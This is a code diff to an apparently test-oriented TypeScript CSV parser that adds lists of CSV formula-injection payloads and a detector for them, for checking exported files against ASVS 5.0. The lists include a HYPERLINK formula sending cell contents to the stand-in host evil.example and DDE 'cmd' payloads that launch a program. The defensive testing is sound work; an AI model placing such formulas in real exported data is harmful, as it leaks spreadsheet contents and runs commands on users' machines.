@@ -1,8 +1,8 @@
-/** A strict reader of CSV by RFC 4180, to check what we write. */
+/** A strict reader of CSV by RFC 4180, and what makes a spreadsheet run what somebody typed (ASVS 5.0, 1.2.10). */
 
 /** Rows by column name. @throws Error for what RFC 4180 does not allow. */
 export function parseCsv(text: string): Array<Record<string, string>> {
-  const [header = [], ...rows] = records(text);
+  const [header = [], ...rows] = records(text.replace('\uFEFF', ''));
   return rows.map((row) => {
     if (row.length !== header.length) throw new Error(`${row.length} cells: ${row.join('|')}`);
     return Object.fromEntries(header.map((name, column) => [name, row[column] ?? '']));
@@ -26,4 +26,26 @@ function records(text: string): string[][] {
     row = [];
   }
   return found;
+}
+
+/** Formulas, in every disguise that a spreadsheet sees through. */
+export const FORMULAS = [
+  ...['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1'],
+  ...['-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', '  =1+1'],
+  ...['\u00a0=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)'],
+];
+
+/** Formulas behind whichever separator a spreadsheet splits a line at, minding quotes or not. */
+export const SPLITS = [
+  ...["x;=cmd|'/C calc'!A0;y", 'x\t=1+2', 'x,=1+2', 'x|=1+2', 'x;;  =1+2', 'x; "=1+2', 'x";=1+2'],
+  ...["x;'\t@SUM(1)", 'x\r\n;+1+cmd|x', 'x;\uff1d1+2', '"=1+1"', 'x\t-2+3', 'x"";=1+1'],
+];
+
+/** What stays as it is. */
+export const HARMLESS = ['a=1', 'Rao, "Asha"', 'two\r\nlines', "O'Hara & Söhne", '株式会社'];
+
+/** The pieces of CSV that begin a formula, whichever separator it is split at, quotes or not. */
+export function liveFormulas(csv: string): string[] {
+  const pieces = csv.replace('\uFEFF', '').split(/[,;|\t\r\n]/);
+  return pieces.filter((piece) => /^[\s"\0]*[=+\-@＝＋－＠]/u.test(piece));
 }
